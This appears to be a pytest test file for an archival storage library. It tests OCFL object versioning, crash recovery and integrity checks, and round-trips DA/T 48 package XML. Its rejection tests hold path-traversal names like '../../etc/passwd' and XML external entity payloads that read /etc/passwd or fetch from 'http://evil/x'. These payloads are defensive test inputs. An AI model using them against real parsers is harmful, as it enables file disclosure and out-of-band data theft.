"""OCFL 1.1 objects on a LocalBlobStore, checked by ocfl-py's validator; DA/T 48 XML."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import ocfl
import pytest

from dangan.core.errors import ConflictError, IntegrityFailure, InvalidInputError, NotFoundError
from dangan.storage import (
    FileDigests,
    FileInfo,
    LocalBlobStore,
    OcflStorageRoot,
    object_root_path,
    parse_package,
    parse_package_xml,
    render_package_xml,
)
from tests.ocfl_check import EXT, validate

T1 = datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
T2 = datetime(2024, 6, 1, 8, 0, tzinfo=UTC)
MAIN = "关于印发办法的通知.pdf"
ATTACH = "附件/附件1 实施细则.docx"


def fd(data: bytes) -> FileDigests:
    return FileDigests(
        sha512=hashlib.sha512(data).hexdigest(),
        sm3=hashlib.new("sm3", data).hexdigest(),
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


@pytest.fixture
def root(tmp_path: Path) -> OcflStorageRoot:
    r = OcflStorageRoot(LocalBlobStore(tmp_path / "ocfl", "primary"))
    r.initialize()
    r.initialize()  # idempotent
    return r


def root_dir(r: OcflStorageRoot) -> Path:
    return r.store.root  # type: ignore[attr-defined,no-any-return]


def write_v1(
    r: OcflStorageRoot, oid: str = "dangan:rec-1", *, stage: bool = True, **kw: Any
) -> dict[str, Any]:
    main, attach = b"%PDF-1.7 main", b"PK docx attachment"
    if stage:
        r.stage_content(oid, 1, MAIN, main)
        r.stage_content(oid, 1, ATTACH, io.BytesIO(attach))
    return r.write_version(
        oid,
        1,
        {MAIN: fd(main), ATTACH: fd(attach)},
        {"metadata.json": b'{"title":"t"}', "signature.json": b"{}"},
        created=T1,
        message="接收归档",
        user_name="档案馆接收员",
        user_address="mailto:archivist@example.gov.cn",
        **kw,
    )


def test_root_declaration_and_layout(root: OcflStorageRoot) -> None:
    d = root_dir(root)
    assert (d / "0=ocfl_1.1").read_bytes() == b"ocfl_1.1\n"
    assert json.loads((d / "ocfl_layout.json").read_text())["extension"] == EXT
    cfg = json.loads((d / "extensions" / EXT / "config.json").read_text())
    assert cfg == {
        "extensionName": EXT,
        "digestAlgorithm": "sha256",
        "tupleSize": 3,
        "numberOfTuples": 3,
        "shortObjectRoot": False,
    }
    assert validate(d) == (True, [])


def test_two_versions_valid_and_readable(root: OcflStorageRoot) -> None:
    oid = "dangan:rec-1"
    write_v1(root)
    new_main = b"%PDF-1.7 corrected"
    root.stage_content(oid, 2, MAIN, new_main)
    attach = b"PK docx attachment"
    inv = root.write_version(
        oid,
        2,
        {MAIN: fd(new_main), ATTACH: fd(attach)},
        {"metadata.json": b'{"title":"t2"}', "signature.json": b"{}"},
        created=T2,
        message="更正",
        user_name="档案馆接收员",
    )
    assert inv["head"] == "v2"
    obj = root_dir(root) / object_root_path(oid)
    # unchanged files are referenced, not copied
    assert not (obj / "v2" / "content" / "附件").exists()
    assert not (obj / "v2" / "content" / "signature.json").exists()
    assert (obj / "v2" / "inventory.json").read_bytes() == (obj / "inventory.json").read_bytes()
    assert root.read_file(oid, MAIN) == new_main
    assert root.read_file(oid, MAIN, version=1) == b"%PDF-1.7 main"
    assert root.read_file(oid, ATTACH) == attach
    assert root.read_file(oid, "metadata.json") == b'{"title":"t2"}'
    assert root.read_inventory(oid, version=1)["head"] == "v1"
    assert root.content_key(oid, ATTACH, 2).endswith("/v1/content/" + ATTACH)  # by reference
    assert root.content_key(oid, MAIN).endswith("/v2/content/" + MAIN)
    assert root.content_key(oid, MAIN, 3).endswith("/v3/content/" + MAIN)  # where v3 stages
    assert root.list_objects() == [oid]
    assert root.incomplete_objects() == []
    ok, errors = validate(root_dir(root))
    assert ok, errors
    # the ocfl-py view of the root agrees with our layout
    sr = ocfl.StorageRoot(root=str(root_dir(root)))
    sr.registered_extensions.append(EXT)
    assert list(sr.list_objects()) == [(object_root_path(oid), oid)]
    assert sr.object_path(oid) == object_root_path(oid)


def test_write_version_is_idempotent(root: OcflStorageRoot) -> None:
    first = write_v1(root)
    d = root_dir(root) / object_root_path("dangan:rec-1")
    before = (d / "inventory.json").read_bytes()
    main, attach = b"%PDF-1.7 main", b"PK docx attachment"
    again = root.write_version(
        "dangan:rec-1",
        1,
        {MAIN: fd(main), ATTACH: fd(attach)},
        {"metadata.json": b'{"title":"t"}', "signature.json": b"{}"},
        created=T1,
        message="接收归档",
        user_name="档案馆接收员",
        user_address="mailto:archivist@example.gov.cn",
    )
    assert again == first
    assert (d / "inventory.json").read_bytes() == before
    with pytest.raises(ConflictError) as exc:
        root.write_version(
            "dangan:rec-1",
            1,
            {MAIN: fd(main), ATTACH: fd(attach)},
            {"metadata.json": b"changed", "signature.json": b"{}"},
            created=T1,
            message="接收归档",
            user_name="档案馆接收员",
        )
    assert exc.value.code == "version_exists"
    assert root.read_file("dangan:rec-1", "metadata.json") == b'{"title":"t"}'
    with pytest.raises(ConflictError):
        root.stage_content("dangan:rec-1", 1, MAIN, b"overwrite sealed")


def test_crash_after_version_inventory_is_finished_by_rerun(root: OcflStorageRoot) -> None:
    write_v1(root)
    d = root_dir(root) / object_root_path("dangan:rec-1")
    (d / "0=ocfl_object_1.1").unlink()
    (d / "inventory.json").unlink()
    assert root.list_objects() == []
    [inc] = root.incomplete_objects()
    assert inc.object_id is None
    write_v1_inputs_again = write_v1  # staging again overwrites with the same bytes
    write_v1_inputs_again(root)
    assert root.list_objects() == ["dangan:rec-1"]
    assert validate(root_dir(root))[0]


def test_crash_between_root_inventory_and_its_sidecar_is_finished_by_rerun(
    root: OcflStorageRoot,
) -> None:
    """Seen under SIGKILL: the root inventory renamed into place, its sidecar not yet."""
    write_v1(root)
    d = root_dir(root) / object_root_path("dangan:rec-1")
    (d / "inventory.json.sha512").unlink()
    with pytest.raises(NotFoundError):
        root.read_inventory("dangan:rec-1")
    write_v1(root, stage=False)  # the outbox re-runs the same write
    assert root.read_inventory("dangan:rec-1")["head"] == "v1"
    assert validate(root_dir(root))[0]


def test_corrupt_content_detected(root: OcflStorageRoot) -> None:
    write_v1(root)
    f = root_dir(root) / object_root_path("dangan:rec-1") / "v1" / "content" / MAIN
    raw = bytearray(f.read_bytes())
    raw[0] ^= 0x01
    f.write_bytes(bytes(raw))
    with pytest.raises(IntegrityFailure) as exc:
        root.read_file("dangan:rec-1", MAIN)
    assert exc.value.code == "content_digest_mismatch"
    assert MAIN in exc.value.zh
    assert "primary" in exc.value.en
    ok, errors = validate(root_dir(root))
    assert not ok
    assert "E093" in str(errors)  # content digest mismatch


def test_corrupt_inventory_detected(root: OcflStorageRoot) -> None:
    write_v1(root)
    inv = root_dir(root) / object_root_path("dangan:rec-1") / "inventory.json"
    inv.write_bytes(inv.read_bytes().replace("接收归档".encode(), "篡改内容".encode()))
    with pytest.raises(IntegrityFailure) as exc:
        root.read_inventory("dangan:rec-1")
    assert exc.value.code == "inventory_digest_mismatch"
    assert not validate(root_dir(root))[0]


def test_incomplete_object_tolerated_and_discarded(root: OcflStorageRoot) -> None:
    write_v1(root, "dangan:done")
    root.stage_content("dangan:crashed", 1, MAIN, b"staged only")
    key = root.content_key("dangan:crashed", MAIN, 1)
    assert root.store.get(key) == b"staged only"
    root.stage_content("dangan:done", 2, "new.pdf", b"staged v2")
    assert root.list_objects() == ["dangan:done"]
    inc = {i.root: i for i in root.incomplete_objects()}
    crashed = inc[object_root_path("dangan:crashed")]
    assert (crashed.object_id, crashed.head) == (None, None)
    assert inc[object_root_path("dangan:done")].staged_versions == ["v2"]
    assert not validate(root_dir(root))[0]  # the validator flags the leftovers too
    assert root.discard_incomplete("dangan:crashed") == 1
    assert root.discard_incomplete("dangan:done") == 1
    assert root.incomplete_objects() == []
    assert root.read_file("dangan:done", MAIN) == b"%PDF-1.7 main"
    assert not (root_dir(root) / object_root_path("dangan:crashed")[:3]).exists()
    ok, errors = validate(root_dir(root))
    assert ok, errors


def test_staged_content_must_match_and_be_declared(root: OcflStorageRoot) -> None:
    root.stage_content("o", 1, "a.pdf", b"real")
    with pytest.raises(IntegrityFailure) as exc:
        root.write_version(
            "o", 1, {"a.pdf": fd(b"claimed")}, {}, created=T1, message="", user_name="u"
        )
    assert exc.value.code == "staged_content_mismatch"
    root.stage_content("o", 1, "b.pdf", b"b")
    with pytest.raises(ConflictError) as exc2:
        root.write_version(
            "o", 1, {"a.pdf": fd(b"real")}, {}, created=T1, message="", user_name="u"
        )
    assert exc2.value.code == "unexpected_staged_content"
    with pytest.raises(IntegrityFailure) as exc3:
        root.write_version(
            "o",
            1,
            {"a.pdf": fd(b"real"), "b.pdf": fd(b"b"), "c.pdf": fd(b"never staged")},
            {},
            created=T1,
            message="",
            user_name="u",
        )
    assert exc3.value.code == "content_missing"
    assert root.list_objects() == []


def test_unsafe_logical_paths_refused(root: OcflStorageRoot) -> None:
    for bad in ["../../etc/passwd", "/abs", "a/../../b", "C:\\x"]:
        with pytest.raises(InvalidInputError):
            root.stage_content("o", 1, bad, b"x")


def test_sm3_fixity_rejected_by_strict_validator(root: OcflStorageRoot) -> None:
    """Why SM3 stays out of the fixity block by default: ocfl-py reports E056b."""
    write_v1(root, sm3_fixity=True)
    ok, errors = validate(root_dir(root))
    assert not ok
    assert "E056b" in str(errors)
    # lax mode accepts the key but then cannot compute SM3 and crashes
    with pytest.raises(ValueError, match="sm3"):
        validate(root_dir(root), lax=True)


def test_validator_script(root: OcflStorageRoot) -> None:
    """The installed command-line validator, on one object (it cannot load a 0004 root)."""
    write_v1(root)
    script = Path(sys.executable).parent / "ocfl-validate.py"
    if not script.exists():
        pytest.skip("ocfl-validate.py not installed")
    obj = root_dir(root) / object_root_path("dangan:rec-1")
    out = subprocess.run(
        [sys.executable, str(script), str(obj)], capture_output=True, text=True, check=False
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert "is VALID" in out.stdout


# --- DA/T 48-style package XML -------------------------------------------------------------

NAMES = {"title": "题名", "doc_no": "文件编号", "keywords": "主题词", "creator": "责任者"}


def _files() -> list[FileInfo]:
    return [
        FileInfo(MAIN, 12, "PDF 1.7", "a" * 64, "b" * 64),
        FileInfo(ATTACH, 34, "DOCX", "c" * 64, "d" * 64),
    ]


def test_package_xml_round_trip() -> None:
    metadata = {
        "title": "关于印发《档案管理办法》的通知",
        "doc_no": "国档发〔2024〕1号",
        "keywords": ["档案", "办法"],
        "creator": {"name": "国家档案局", "role": "发文"},
        "year": 2024,
        "empty": None,
    }
    xml = render_package_xml(
        metadata, _files(), created=T1, creator="国家档案局", element_names=NAMES
    )
    text = xml.decode("utf-8")
    assert text.startswith("<?xml")
    assert 'xmlns="http://www.saac.gov.cn/standards/ERM/encapsulation"' in text
    for tag in ("<电子文件封装包", "<版本>2009</版本>", 'eep版本="2009"', "<封装包类型>原始型"):
        assert tag in text
    assert "<题名>关于印发《档案管理办法》的通知</题名>" in text
    assert "<计算机文件名>附件/附件1 实施细则.docx</计算机文件名>" in text
    back = parse_package_xml(xml, NAMES)
    assert back == {
        "title": metadata["title"],
        "doc_no": metadata["doc_no"],
        "keywords": ["档案", "办法"],
        "creator": {"name": "国家档案局", "role": "发文"},
        "year": "2024",
    }
    pkg = parse_package(xml, NAMES)
    assert pkg.files == _files()
    assert pkg.creator == "国家档案局"
    assert pkg.package_type == "原始型"
    assert pkg.created == "2024-05-01T08:00:00.000000Z"
    # without the name mapping the Chinese element names are the keys
    assert parse_package_xml(xml)["题名"] == metadata["title"]


@pytest.mark.parametrize(
    "doc",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "boom">]>'
        b'<r xmlns="http://www.saac.gov.cn/standards/ERM/encapsulation">&x;</r>',
        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x">%p;]><r/>',
    ],
)
def test_package_xml_rejects_dtd_and_entities(doc: bytes) -> None:
    with pytest.raises(InvalidInputError) as exc:
        parse_package_xml(doc)
    assert exc.value.problems[0].code == "xml_unsafe"


def test_package_xml_rejects_malformed_and_foreign() -> None:
    with pytest.raises(InvalidInputError) as exc:
        parse_package_xml(b"<a><b></a>")
    assert exc.value.problems[0].code == "xml_malformed"
    with pytest.raises(InvalidInputError) as exc:
        parse_package_xml(b"<a/>")
    assert exc.value.problems[0].code == "xml_not_eep"


def test_package_xml_refuses_bad_names_and_chars() -> None:
    for meta in ({"bad name": "x"}, {"文件数据": "x"}, {"t": "a\x01b"}):
        with pytest.raises(InvalidInputError):
            render_package_xml(meta, [], created=T1, creator="c")
